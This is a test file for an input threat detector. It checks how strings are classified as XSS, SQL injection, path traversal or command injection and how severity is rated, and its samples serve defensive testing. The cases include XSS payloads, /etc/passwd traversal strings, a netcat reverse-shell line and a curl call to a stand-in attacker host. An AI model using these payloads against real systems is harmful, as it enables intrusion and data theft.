import { isChangedBySanitizing } from './sanitizer.js';
import {
  ATTACK_EXAMPLES,
  THREAT_TYPES,
  detectThreats,
  highestSeverity,
  severityOf,
  type ThreatType,
} from './threat-detector.js';

const typesOf = (value: string): ThreatType[] => detectThreats(value).map((t) => t.type);

describe('severityOf', () => {
  it.each([
    ['XSS_ATTEMPT', 'high'],
    ['SQL_INJECTION_ATTEMPT', 'high'],
    ['PATH_TRAVERSAL_ATTEMPT', 'medium'],
    ['COMMAND_INJECTION_ATTEMPT', 'medium'],
    ['ANYTHING_ELSE', 'low'],
    ['', 'low'],
  ])('%s is %s', (type, severity) => {
    expect(severityOf(type)).toBe(severity);
  });
});

describe('detectThreats', () => {
  describe('XSS_ATTEMPT (high)', () => {
    it.each([
      ['<script>alert(1)</script>', 'Script, iframe, object or embed tag'],
      ['</SCRIPT>', 'Script, iframe, object or embed tag'],
      ['<iframe src=x>', 'Script, iframe, object or embed tag'],
      ['<object data=x>', 'Script, iframe, object or embed tag'],
      ['<embed src=x>', 'Script, iframe, object or embed tag'],
      ['javascript:alert(1)', 'javascript: URL'],
      ['JAVA\nSCRIPT:alert(1)', 'javascript: URL'],
      ['vbscript:msgbox(1)', 'vbscript: URL'],
      ['data:text/html,<b>x</b>', 'Scriptable data: URL'],
      ['data:image/svg+xml;base64,PHN2Zz4=', 'Scriptable data: URL'],
      ['<img src=x onerror=alert(1)>', 'Inline event handler (on…=)'],
      ['" onmouseover="alert(1)', 'Inline event handler (on…=)'],
      ['&#106;avascript:alert(1)', 'javascript: URL'],
      ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'Script, iframe, object or embed tag'],
    ])('%j', (input, description) => {
      // (A ; or & in it is also a shell metacharacter: only the XSS label is asserted here.)
      expect(detectThreats(input)[0]).toEqual({ type: 'XSS_ATTEMPT', severity: 'high', description });
    });
  });

  describe('SQL_INJECTION_ATTEMPT (high): a SQL keyword followed by whitespace, as the spec says', () => {
    it.each([
      ['1 UNION SELECT password FROM users', 'UNION'],
      ['SELECT * FROM users', 'SELECT'],
      ['insert into users values (1)', 'INSERT'],
      ['UPDATE users SET role=admin', 'UPDATE'],
      ['DELETE\tFROM users', 'DELETE'],
      ['x DROP TABLE users', 'DROP'],
      ['exec xp_cmdshell', 'EXEC'],
      // Harmless sentences are flagged too: the rule is the spec's, loose by design.
      ['Please select a plan', 'SELECT'],
      ['Create an account for my team', 'CREATE'],
    ])('%j', (input, keyword) => {
      expect(detectThreats(input)).toEqual([
        {
          type: 'SQL_INJECTION_ATTEMPT',
          severity: 'high',
          description: `SQL keyword "${keyword}" followed by whitespace`,
        },
      ]);
    });

    it.each(['selection', 'SELECT', 'updated', 'dropdown menu', "' OR 1=1"])(
      'not without the whitespace after a whole keyword: %j',
      (input) => {
        expect(typesOf(input)).not.toContain('SQL_INJECTION_ATTEMPT');
      },
    );
  });

  describe('PATH_TRAVERSAL_ATTEMPT (medium)', () => {
    it.each([
      ['../../etc/passwd', 'Parent directory sequence (../ or ..\\)'],
      ['..\\..\\windows\\win.ini', 'Parent directory sequence (../ or ..\\)'],
      ['%2e%2e%2fetc%2fpasswd', 'Parent directory sequence (../ or ..\\)'],
      ['%2E%2E', 'Encoded parent directory sequence'],
      ['%252e%252e/', 'Encoded parent directory sequence'],
      ['%c0%ae%c0%ae/', 'Encoded parent directory sequence'],
    ])('%j', (input, description) => {
      expect(detectThreats(input)).toEqual([
        { type: 'PATH_TRAVERSAL_ATTEMPT', severity: 'medium', description },
      ]);
    });
  });

  describe('COMMAND_INJECTION_ATTEMPT (medium): any shell metacharacter, as the spec says', () => {
    it.each([
      ['; ls', ';'],
      ['| nc -e sh 10.0.0.1 4444', '|'],
      ['&& curl http://evil.example', '&'],
      ['`whoami`', '`'],
      ['$(whoami)', '$('],
      // Harmless text is flagged too: the rule is the spec's, loose by design.
      ['AT and T: AT&T', '&'],
      ['Hello; thanks', ';'],
    ])('%j', (input, character) => {
      expect(detectThreats(input)).toEqual([
        {
          type: 'COMMAND_INJECTION_ATTEMPT',
          severity: 'medium',
          description: `Shell metacharacter "${character}"`,
        },
      ]);
    });

    it.each(['Cost is $5 (approx)', 'Hello, world!', 'Wait... what?'])('not for %j', (input) => {
      expect(typesOf(input)).not.toContain('COMMAND_INJECTION_ATTEMPT');
    });
  });

  it('reports several types at once, in the order of THREAT_TYPES', () => {
    expect(typesOf('<script>x</script> ../etc; cat /etc/passwd UNION SELECT 1')).toEqual([...THREAT_TYPES]);
  });

  describe('input without a keyword, metacharacter or markup yields no threat', () => {
    it.each([
      'Hello, I would like to know more about your API',
      'Can you call me back tomorrow?',
      'Cost is $5 (approx)',
      'Our score is 100%',
      'Wait... what?',
      "O'Brien",
      'the one= thing',
      'data: 5 rows',
      'data:image/png,iVBORw0KGgo=',
      'I <3 this product',
      '',
    ])('%j', (input) => {
      expect(detectThreats(input)).toEqual([]);
    });
  });
});

describe('highestSeverity', () => {
  it.each([
    [[], null],
    [[{ severity: 'low' }], 'low'],
    [[{ severity: 'low' }, { severity: 'medium' }], 'medium'],
    [[{ severity: 'medium' }, { severity: 'high' }, { severity: 'low' }], 'high'],
  ] as const)('%j → %s', (threats, expected) => {
    expect(highestSeverity(threats)).toBe(expected);
  });

  it('rates a detected SQL injection and path traversal as high', () => {
    expect(highestSeverity(detectThreats('../x UNION SELECT 1'))).toBe('high');
  });
});

describe('ATTACK_EXAMPLES', () => {
  it('are the six examples of the security demo page, in order', () => {
    expect(ATTACK_EXAMPLES.map((e) => e.id)).toEqual([
      'script-injection',
      'html-injection',
      'sql-injection',
      'javascript-protocol',
      'data-url',
      'event-handler',
    ]);
  });

  it.each([
    ['script-injection', ['XSS_ATTEMPT'], true],
    ['html-injection', ['XSS_ATTEMPT'], true],
    ['sql-injection', ['SQL_INJECTION_ATTEMPT', 'COMMAND_INJECTION_ATTEMPT'], false],
    ['javascript-protocol', ['XSS_ATTEMPT'], true],
    ['data-url', ['XSS_ATTEMPT', 'COMMAND_INJECTION_ATTEMPT'], true],
    ['event-handler', ['XSS_ATTEMPT'], true],
  ])('%s is detected as %j (changed by sanitizing: %s)', (id, types, changed) => {
    const example = ATTACK_EXAMPLES.find((e) => e.id === id);
    expect(example).toBeDefined();
    const payload = example?.payload ?? '';
    expect(typesOf(payload)).toEqual(types);
    expect(isChangedBySanitizing(payload)).toBe(changed);
  });

  it('each has a label to show', () => {
    for (const example of ATTACK_EXAMPLES) expect(example.label.length).toBeGreaterThan(0);
  });
});
